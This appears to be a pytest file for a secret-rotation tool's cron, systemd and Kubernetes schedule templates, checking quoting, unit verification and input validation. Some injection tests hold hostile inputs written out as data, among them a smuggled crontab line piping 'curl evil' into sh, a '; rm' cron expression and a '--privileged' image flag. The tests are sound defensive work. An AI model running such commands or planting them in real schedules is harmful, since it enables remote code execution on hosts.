"""The cron, systemd and Kubernetes schedules for unattended rotation.

Each template is checked by the tool that would consume it where we have it:
the crontab command is run by ``sh`` exactly as cron would (after cron's
``\\%`` unescaping), the units go through ``systemd-analyze verify``, and the
CronJob is parsed as YAML. The awkward config path (space, quote, ``%``,
``$``) must come out as one intact argument everywhere.
"""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
from pathlib import Path

import pytest
import yaml

from rotation.schedule_templates import ScheduleKind, render_schedule, schedule_files
from sanitize.errors import UsageError

TRICKY = "/srv/git sanitize/it's 100%$HOME.yml"
ARGV = ["rotate", "--config", TRICKY, "--mode", "scheduled", "--due"]


def stub_executable(tmp_path: Path) -> tuple[Path, Path]:
    """A fake ``git-sanitize`` that records its argv and one variable from the env file."""
    record = tmp_path / "argv.txt"
    exe = tmp_path / "bin dir" / "git-sanitize"
    exe.parent.mkdir()
    exe.write_text(
        "#!/bin/sh\n"
        f"for a in \"$@\"; do printf '%s\\n' \"$a\"; done > '{record}'\n"
        f"printf 'MARK=%s\\n' \"$ROTATION_MARK\" >> '{record}'\n"
        'echo \'{"event": "nothing due"}\'\n'
    )
    exe.chmod(exe.stat().st_mode | stat.S_IXUSR)
    return exe, record


@pytest.mark.parametrize("kind", list(ScheduleKind))
def test_every_kind_renders_the_rotate_command(kind: ScheduleKind) -> None:
    config = "/etc/git-sanitize/rotation.yml"
    text = render_schedule(kind.value, config, executable="/usr/bin/git-sanitize")
    assert "rotate" in text and config in text and "--due" in text and "--mode" in text
    assert kind.default_schedule in text


def test_cron_line_runs_the_exact_command_with_the_env_file(tmp_path: Path) -> None:
    exe, record = stub_executable(tmp_path)
    env_file = tmp_path / "rotation.env"
    env_file.write_text("ROTATION_MARK=from-env-file\n")
    log = tmp_path / "rotate.log"
    text = render_schedule(
        "cron", TRICKY, executable=str(exe), env_file=str(env_file), log_file=str(log), schedule="*/15 2-4 * * 1-5"
    )

    entries = [line for line in text.splitlines() if line and not line.startswith("#") and "=" not in line[:12]]
    assert len(entries) == 1
    fields = entries[0].split(None, 5)
    assert fields[:5] == ["*/15", "2-4", "*", "*", "1-5"]
    command = fields[5]
    assert "%" not in command.replace(r"\%", ""), "a bare % would end the command line in cron"

    # cron turns \% into % and hands the rest to /bin/sh -c
    subprocess.run(["/bin/sh", "-c", command.replace(r"\%", "%")], check=True, env={"PATH": "/usr/bin:/bin"})
    lines = record.read_text().splitlines()
    assert lines[:-1] == ARGV
    assert lines[-1] == "MARK=from-env-file"
    assert "nothing due" in log.read_text()


def test_cron_accepts_macros_and_refuses_bad_expressions() -> None:
    assert "@daily " in render_schedule("cron", "/etc/r.yml", schedule="@daily", executable="/x/git-sanitize")
    for bad in ("17 3 * *", "17 3 * * * *", "17 3 * * ; rm", "@reboot"):
        with pytest.raises(UsageError, match="cron expression"):
            render_schedule("cron", "/etc/r.yml", schedule=bad)


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze not installed")
def test_systemd_units_pass_systemd_analyze_verify(tmp_path: Path) -> None:
    exe, _ = stub_executable(tmp_path)
    files = schedule_files("systemd", TRICKY, executable=str(exe), user="root", schedule="Mon..Fri *-*-* 04:05:00")
    assert set(files) == {"git-sanitize-rotate.service", "git-sanitize-rotate.timer"}
    units = tmp_path / "units"
    units.mkdir()
    for name, content in files.items():
        (units / name).write_text(content)
    proc = subprocess.run(
        ["systemd-analyze", "verify", "--man=no", *(str(units / n) for n in sorted(files))],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "SYSTEMD_LOG_LEVEL": "err"},
    )
    assert proc.returncode == 0, proc.stderr
    assert "ignoring" not in proc.stderr and "Unbalanced" not in proc.stderr
    service = files["git-sanitize-rotate.service"]
    exec_line = next(line for line in service.splitlines() if line.startswith("ExecStart="))
    # % doubled (a specifier otherwise), $ doubled (a variable otherwise), quoted for the space.
    assert exec_line.endswith('--config "/srv/git sanitize/it\'s 100%%$$HOME.yml" --mode scheduled --due')
    assert "WorkingDirectory=/var/lib/git-sanitize" in service.splitlines()
    assert "OnCalendar=Mon..Fri *-*-* 04:05:00" in files["git-sanitize-rotate.timer"]
    assert "Persistent=true" in files["git-sanitize-rotate.timer"]


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="systemd-analyze not installed")
def test_systemd_default_calendar_is_valid() -> None:
    proc = subprocess.run(
        ["systemd-analyze", "calendar", ScheduleKind.SYSTEMD.default_schedule],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr


def test_systemd_needs_an_absolute_executable() -> None:
    with pytest.raises(UsageError, match="absolute path for systemd"):
        schedule_files("systemd", "/etc/r.yml", executable="git-sanitize")


def test_kubernetes_cronjob_never_overlaps_and_mounts_the_config() -> None:
    text = render_schedule(
        "k8s",
        "/etc/git-sanitize/rotation.yml",
        schedule="5 4 * * 0",
        image="registry.local/gs:1.2",
        namespace="security",
        config_map="rotation-config",
        secret_name="rotation-env",
    )
    doc = yaml.safe_load(text)
    assert (doc["apiVersion"], doc["kind"]) == ("batch/v1", "CronJob")
    assert doc["metadata"]["namespace"] == "security"
    spec = doc["spec"]
    assert spec["schedule"] == "5 4 * * 0"
    assert spec["concurrencyPolicy"] == "Forbid"
    pod = spec["jobTemplate"]["spec"]["template"]["spec"]
    assert pod["restartPolicy"] == "Never"
    (container,) = pod["containers"]
    assert container["image"] == "registry.local/gs:1.2"
    assert container["command"] == [
        "git-sanitize",
        "rotate",
        "--config",
        "/etc/git-sanitize/rotation.yml",
        "--mode",
        "scheduled",
        "--due",
    ]
    assert container["envFrom"] == [{"secretRef": {"name": "rotation-env"}}]
    assert container["securityContext"]["readOnlyRootFilesystem"] is True
    mount = next(m for m in container["volumeMounts"] if m["name"] == "config")
    volume = next(v for v in pod["volumes"] if v["name"] == "config")
    assert mount["mountPath"] == "/etc/git-sanitize"
    mounts = {m["mountPath"] for m in container["volumeMounts"] if not m.get("readOnly")}
    assert container["workingDir"] in mounts, "the audit log needs a writable working directory"
    assert volume["configMap"] == {
        "name": "rotation-config",
        "items": [{"key": "rotation.yml", "path": "rotation.yml"}],
    }


def test_kubernetes_refuses_invalid_names_and_paths() -> None:
    with pytest.raises(UsageError, match="not a valid Kubernetes name"):
        render_schedule("k8s", "/etc/gs/rotation.yml", namespace="Security Team")
    with pytest.raises(UsageError, match="absolute file path"):
        render_schedule("k8s", "rotation.yml")
    with pytest.raises(UsageError, match="whitespace"):
        render_schedule("k8s", "/etc/gs/rotation.yml", image="gs:1 --privileged")


def test_without_due_and_in_compromised_mode() -> None:
    text = render_schedule("cron", "/etc/r.yml", due=False, mode="compromised", executable="/x/git-sanitize")
    assert "--mode compromised" in text and "--due" not in text
    with pytest.raises(UsageError, match="mode must be one of"):
        render_schedule("cron", "/etc/r.yml", mode="lenient")


@pytest.mark.parametrize("kind", list(ScheduleKind))
def test_a_second_line_cannot_be_smuggled_in(kind: ScheduleKind) -> None:
    with pytest.raises(UsageError, match="single line"):
        render_schedule(kind, "/etc/r.yml\n* * * * * curl evil | sh", executable="/x/git-sanitize")
    with pytest.raises(UsageError):
        render_schedule(kind, "/etc/r.yml", schedule="17 3 * * *\n* * * * * true", executable="/x/git-sanitize")


def test_unknown_kind_names_the_choices() -> None:
    with pytest.raises(UsageError, match=r"unknown schedule kind 'launchd' \(choose cron, systemd, k8s\)"):
        render_schedule("launchd", "/etc/r.yml")
    assert render_schedule("kubernetes", "/etc/gs/r.yml") == render_schedule("k8s", "/etc/gs/r.yml")


def test_relative_env_file_is_refused() -> None:
    with pytest.raises(UsageError, match="env file must be an absolute path"):
        render_schedule("cron", "/etc/r.yml", env_file="rotation.env")


def test_systemd_render_names_both_files() -> None:
    text = render_schedule("systemd", "/etc/r.yml", executable="/usr/bin/git-sanitize")
    assert "# ==> git-sanitize-rotate.service <==" in text
    assert "# ==> git-sanitize-rotate.timer <==" in text


@pytest.mark.parametrize("kind", list(ScheduleKind))
def test_rotate_print_schedule_renders_for_the_given_config(tmp_path: Path, kind: ScheduleKind) -> None:
    from click.testing import CliRunner

    from sanitize.cli import cli

    config = tmp_path / "rotation.yml"
    config.write_text("backend: {type: aws, region: us-east-1}\nsecrets:\n  - {name: A, secret_id: a}\n")
    result = CliRunner().invoke(cli, ["rotate", "--config", str(config), "--print-schedule", kind.value])
    assert result.exit_code == 0, result.output
    assert str(config) in result.output and "--due" in result.output


def test_print_schedule_takes_the_schedule_user_and_env_file(tmp_path: Path) -> None:
    from click.testing import CliRunner

    from sanitize.cli import cli

    config = tmp_path / "rotation.yml"
    config.write_text("backend: {type: aws, region: us-east-1}\nsecrets:\n  - {name: A, secret_id: a}\n")
    base = ["rotate", "--config", str(config)]
    cron = CliRunner().invoke(cli, [*base, "--print-schedule", "cron", "--schedule", "5 4 * * 1",
                                    "--user", "rotator", "--env-file", "/srv/rot/rotation.env"])
    assert cron.exit_code == 0, cron.output
    line = next(x for x in cron.output.splitlines() if x.startswith("5 4 * * 1 "))
    assert ". /srv/rot/rotation.env" in line and "as rotator," in cron.output  # a user crontab: no user field
    systemd = CliRunner().invoke(cli, [*base, "--print-schedule", "systemd", "--schedule", "Sun *-*-* 02:00:00",
                                       "--user", "rotator", "--env-file", "/srv/rot/rotation.env"])
    assert systemd.exit_code == 0, systemd.output
    assert "User=rotator" in systemd.output and "EnvironmentFile=-/srv/rot/rotation.env" in systemd.output
    assert "OnCalendar=Sun *-*-* 02:00:00" in systemd.output and "--mode scheduled --due" in systemd.output
    k8s = CliRunner().invoke(cli, [*base, "--print-schedule", "k8s", "--schedule", "0 1 * * *",
                                   "--image", "registry.example/gs:1"])
    assert k8s.exit_code == 0 and '"0 1 * * *"' in k8s.output and "registry.example/gs:1" in k8s.output
    for bad, message in ((["--print-schedule", "k8s", "--user", "x"], "apply to --print-schedule cron/systemd"),
                         (["--schedule", "5 4 * * *"], "applies to --print-schedule only"),
                         (["--print-schedule", "cron", "--schedule", "every day"], "not a 5-field cron"),
                         (["--print-schedule", "cron", "--user", "Bad User"], "not a valid user name")):
        result = CliRunner().invoke(cli, [*base, *bad])
        assert result.exit_code == 2 and message in result.output, result.output
